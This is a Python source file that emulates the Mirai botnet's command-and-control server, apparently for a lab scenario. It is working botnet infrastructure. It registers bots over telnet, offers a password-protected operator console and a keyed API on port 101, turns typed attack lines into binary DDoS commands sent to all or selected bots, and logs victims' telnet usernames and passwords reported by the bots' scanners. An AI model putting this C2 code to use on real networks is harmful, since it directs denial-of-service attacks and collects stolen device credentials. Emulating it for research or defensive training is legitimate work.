#!/usr/bin/env python3
"""mirai_cnc.py - an emulation of Mirai's command-and-control server (the
Go `cnc` program of the leaked source) and of its scan report listener
(`scanListen`), for the `mirai` scenario. Our own Python 3 code.

What it reproduces on the wire:

* TCP 23 serves both bots and operators, told apart by the first read:
  exactly 00 00 00 <version> is a bot (then a length-prefixed id string),
  anything else (a telnet client's option negotiation) is an operator.
* Bots: kept in a client list; every 2-byte heartbeat is echoed back.
* Operators: the alternate screen and telnet options (IAC WILL ECHO, WILL
  SGA, WONT LINEMODE), a banner, the bilingual `username`/`password`
  prompts (keys echoed, the password as `*`), the 15-step "checking
  account" spinner, the fake "[+] DDOS | ..." lines, then a prompt
  `<user>@botnet# `; a terminal title "<N> Bots Connected | <user>" every
  second; `botcount` (admins: bots per id), `-N` (use at most N bots),
  `@id` (only bots of one id), attack lines parsed and turned into the
  binary attack command sent to the bots; errors in red. A wrong login
  gets "An unknown error occurred" and the connection closes after a key.
* TCP 101, the API: one line `<api key>|<attack line>`, answered `OK` or
  `ERR|...`.
* TCP 48101, the report listener: binary scan results from the bots'
  telnet scanners, printed as `ip:port user:pass`.

Where it differs: accounts come from the environment (CNC_USER,
CNC_PASSWORD, CNC_API_KEY; admin, no bot or duration limit) instead of a
MySQL database; the banner text is our own; attacks are not logged to a
database. Every event is printed to stdout (the container log).
"""

import os
import socket
import struct
import sys
import threading
import time

import mirai_proto as mp

USER = os.environ.get("CNC_USER", "admin")
PASSWORD = os.environ.get("CNC_PASSWORD", "admin")
API_KEY = os.environ.get("CNC_API_KEY", "")
BANNER = "\r\n".join(
    [
        "",
        "   welcome back. the net is listening.",
        "   type an attack, or ? for help.",
        "",
        "",
    ]
)

lock = threading.Lock()
bots = []  # (conn, source)


def log(*args):
    print("cnc:", *args, flush=True)


def bot_count():
    with lock:
        return len(bots)


def distribution():
    counts = {}
    with lock:
        for _, source in bots:
            counts[source] = counts.get(source, 0) + 1
    return counts


def queue_buf(buf, max_bots, category):
    """Send an attack command to up to max_bots bots (-1: all), optionally
    only to those whose id is `category`."""
    sent = 0
    with lock:
        targets = list(bots)
    for conn, source in targets:
        if max_bots != -1 and sent >= max_bots:
            break
        if category and source != category:
            continue
        try:
            conn.sendall(buf)
            sent += 1
        except OSError:
            pass
    return sent


def read_exact(conn, n):
    data = b""
    while len(data) < n:
        chunk = conn.recv(n - len(data))
        if not chunk:
            raise ConnectionError("closed")
        data += chunk
    return data


# ---- bots -------------------------------------------------------------------
def handle_bot(conn, addr, first):
    """`first` holds what the first read returned: the 4-byte magic and
    maybe the start of the id."""
    pending = first[4:]
    source = ""
    if first[3] > 0:
        if not pending:
            pending = read_exact(conn, 1)
        n = pending[0]
        pending = pending[1:]
        if len(pending) < n:
            pending += read_exact(conn, n - len(pending))
        source = pending[:n].decode(errors="replace")
        pending = pending[n:]
    with lock:
        bots.append((conn, source))
    log("bot %s registered (version %d, id %r); %d bots" % (addr[0], first[3], source, bot_count()))
    try:
        conn.settimeout(180)
        buf = pending
        while True:
            while len(buf) < 2:
                chunk = conn.recv(2 - len(buf))
                if not chunk:
                    raise ConnectionError("closed")
                buf += chunk
            conn.sendall(buf[:2])
            buf = buf[2:]
    except (OSError, ConnectionError):
        pass
    finally:
        with lock:
            bots[:] = [b for b in bots if b[0] is not conn]
        conn.close()
        log("bot %s left; %d bots" % (addr[0], bot_count()))


# ---- operators ----------------------------------------------------------------
class Admin:
    def __init__(self, conn, addr):
        self.conn = conn
        self.addr = addr
        self.pending = b""
        self.closed = False

    def write(self, data):
        if isinstance(data, str):
            data = data.encode()
        self.conn.sendall(data)

    def read_byte(self):
        if self.pending:
            b, self.pending = self.pending[0], self.pending[1:]
            return b
        data = self.conn.recv(1)
        if not data:
            raise ConnectionError("closed")
        return data[0]

    def read_line(self, masked=False):
        """Mirai's ReadLine: IAC sequences skipped, CR and tabs ignored, LF
        or NUL end the line, every key echoed (masked: `*`)."""
        line = bytearray()
        while True:
            b = self.read_byte()
            if b == 0xFF:
                self.read_byte()
                self.read_byte()
            elif b in (0x7F, 0x08):
                if line:
                    self.write(bytes([b]))
                    line.pop()
            elif b in (0x0D, 0x09):
                pass
            elif b in (0x0A, 0x00):
                self.write(b"\r\n")
                return line.decode(errors="replace")
            elif b == 0x03:
                self.write(b"^C\r\n")
                return ""
            elif b == 0x1B:
                self.write(b"^[")
                line += b"^["
            else:
                self.write(b"*" if masked else bytes([b]))
                line.append(b)

    def title_loop(self, user):
        while not self.closed:
            time.sleep(1)
            try:
                self.write("\033]0;%d Bots Connected | %s\007" % (bot_count(), user))
            except OSError:
                self.closed = True
                break

    def handle(self):
        self.write("\033[?1049h")
        self.write(b"\xff\xfb\x01\xff\xfb\x03\xff\xfc\x22")
        try:
            self.session()
        finally:
            self.closed = True
            try:
                self.write("\033[?1049l")
            except OSError:
                pass

    def session(self):
        self.write(BANNER)
        self.conn.settimeout(60)
        self.write("\033[34;1mпользователь\033[33;3m: \033[0m\r\n")
        self.write("\033[34;1musername\033[33;3m: \033[0m")
        user = self.read_line()
        self.write("\033[34;1mпароль\033[33;3m: \033[0m\r\n")
        self.write("\033[34;1mpassword\033[33;3m: \033[0m")
        password = self.read_line(masked=True)
        self.conn.settimeout(120)
        self.write("\r\n")
        for i in range(15):
            self.write("\r\033[37;1mchecking account ... \033[31m" + "-\\|/"[i % 4])
            time.sleep(0.3)
        if user != USER or password != PASSWORD:
            log("operator %s: failed login as %r" % (self.addr[0], user))
            self.write("\r\033[32;1mпроизошла неизвестная ошибка\r\n")
            self.write("\r\033[32;1mAn unknown error occurred\r\n")
            self.write("\033[31mнажмите любую клавишу для выхода. (any key)\033[0m\r\n")
            self.write("\033[31mPress any key to exit. (any key)\033[0m")
            try:
                self.read_byte()
            except (OSError, ConnectionError):
                pass
            return
        log("operator %s logged in as %r" % (self.addr[0], user))
        self.write("\r\n\033[0m")
        self.write("[+] DDOS | Succesfully hijacked connection\r\n")
        time.sleep(0.25)
        self.write("[+] DDOS | Masking connection from utmp+wtmp...\r\n")
        time.sleep(0.5)
        self.write("[+] DDOS | Hiding from netstat...\r\n")
        time.sleep(0.15)
        self.write("[+] DDOS | Removing all traces of LD_PRELOAD...\r\n")
        for i in range(4):
            time.sleep(0.1)
            self.write("[+] DDOS | Wiping env libc.poison.so.%d\r\n" % (i + 1))
        self.write("[+] DDOS | Setting up virtual terminal...\r\n")
        time.sleep(1)
        threading.Thread(target=self.title_loop, args=(user,), daemon=True).start()
        self.write(
            "\033[37;1m[!] Sharing access IS prohibited!\r\n[!] Do NOT share your credentials!\r\n\033[36;1mReady\r\n"
        )
        while True:
            self.write("\033[32;1m" + user + "@botnet# \033[0m")
            cmd = self.read_line()
            if cmd in ("exit", "quit"):
                log("operator %s: %s" % (self.addr[0], cmd))
                return
            if not cmd:
                continue
            log("operator %s: %r" % (self.addr[0], cmd))
            if cmd == "botcount":
                for source, n in sorted(distribution().items()):
                    self.write("\033[36;1m%s:\t%d\033[0m\r\n" % (source, n))
                continue
            max_bots, category = -1, ""
            try:
                if cmd.startswith("-"):
                    count, _, cmd = cmd.partition(" ")
                    try:
                        max_bots = int(count[1:])
                    except ValueError:
                        self.write("\033[31;1mFailed to parse botcount \"%s\"\033[0m\r\n" % count[1:])
                        continue
                if cmd.startswith("@"):
                    cat, _, cmd = cmd.partition(" ")
                    category = cat[1:]
                if cmd.strip() == "?":
                    text = "\033[37;1mAvailable attack list\r\n\033[36;1m"
                    for name, (_, _, desc) in mp.VECTORS.items():
                        text += name + ": " + desc + "\r\n"
                    raise mp.AttackError(text)
                attack = mp.parse_attack_line(cmd)
                buf = mp.build_attack(*attack)
            except mp.AttackError as e:
                self.write("\033[31;1m%s\033[0m\r\n" % e)
                continue
            sent = queue_buf(buf, max_bots, category)
            log(
                "attack %s (vector %d, %d s, targets %s, options %s) sent to %d bots"
                % (cmd.split()[0], attack[1], attack[0], attack[2], attack[3], sent)
            )


# ---- listeners ------------------------------------------------------------------
def initial_handler(conn, addr):
    try:
        conn.settimeout(10)
        first = conn.recv(32)
        if not first:
            return
        if len(first) >= 4 and first[:3] == b"\x00\x00\x00":
            handle_bot(conn, addr, first)
            return
        log("operator connection from %s" % addr[0])
        Admin(conn, addr).handle()
    except (OSError, ConnectionError) as e:
        log("connection from %s ended: %s" % (addr[0], e))
    finally:
        conn.close()


def api_handler(conn, addr):
    try:
        conn.settimeout(60)
        line = bytearray()
        while True:
            b = conn.recv(1)
            if not b:
                raise ConnectionError("closed")
            if b in (b"\n", b"\x00"):
                break
            if b not in (b"\r", b"\t"):
                line += b
        key, _, cmd = line.decode(errors="replace").partition("|")
        if not API_KEY or key != API_KEY:
            conn.sendall(b"ERR|API code invalid\r\n")
            return
        max_bots = -1
        if cmd.startswith("-"):
            count, _, cmd = cmd.partition(" ")
            try:
                max_bots = int(count[1:])
            except ValueError:
                conn.sendall(b"ERR|Failed parsing botcount\r\n")
                return
        try:
            attack = mp.parse_attack_line(cmd)
            buf = mp.build_attack(*attack)
        except mp.AttackError:
            conn.sendall(b"ERR|Failed parsing attack command\r\n")
            return
        sent = queue_buf(buf, max_bots, "")
        log("api %s: attack %r sent to %d bots" % (addr[0], cmd, sent))
        conn.sendall(b"OK\r\n")
    except (OSError, ConnectionError):
        pass
    finally:
        conn.close()


def report_handler(conn, addr):
    try:
        conn.settimeout(10)
        first = read_exact(conn, 1)
        if first[0] == 0:
            ip = socket.inet_ntoa(read_exact(conn, 4))
            (port,) = struct.unpack(">H", read_exact(conn, 2))
        else:
            ip = socket.inet_ntoa(first + read_exact(conn, 3))
            port = 23
        user = read_exact(conn, read_exact(conn, 1)[0]).decode(errors="replace")
        password = read_exact(conn, read_exact(conn, 1)[0]).decode(errors="replace")
        log("report from %s: %s:%d %s:%s" % (addr[0], ip, port, user, password))
    except (OSError, ConnectionError) as e:
        log("report from %s broken: %s" % (addr[0], e))
    finally:
        conn.close()


def serve(port, handler):
    srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind(("0.0.0.0", port))
    srv.listen(64)
    while True:
        conn, addr = srv.accept()
        threading.Thread(target=handler, args=(conn, addr), daemon=True).start()


def main():
    log("listening on 23 (telnet/bots), 101 (api), 48101 (scan reports); operator account %r" % USER)
    threading.Thread(target=serve, args=(mp.API_PORT, api_handler), daemon=True).start()
    threading.Thread(target=serve, args=(mp.REPORT_PORT, report_handler), daemon=True).start()
    serve(mp.CNC_PORT, initial_handler)


if __name__ == "__main__":
    sys.exit(main())
